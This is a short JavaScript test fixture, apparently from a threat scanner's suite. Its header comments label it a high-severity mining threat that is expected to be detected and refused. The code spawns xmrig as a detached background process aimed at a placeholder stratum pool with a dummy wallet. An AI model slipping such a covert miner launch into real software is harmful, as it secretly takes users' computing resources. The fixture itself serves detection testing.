// expect: detected
// threat: 35 mining
// at: source
// family: miner
// severity: high
// decision: refused

import { spawn } from 'node:child_process';

const pool = 'stratum+tcp://pool.invalid:3333';
spawn('./xmrig', ['-o', pool, '-u', 'wallet', '--donate-level', '1'], { detached: true }).on('error', (error) => console.log(error.code));
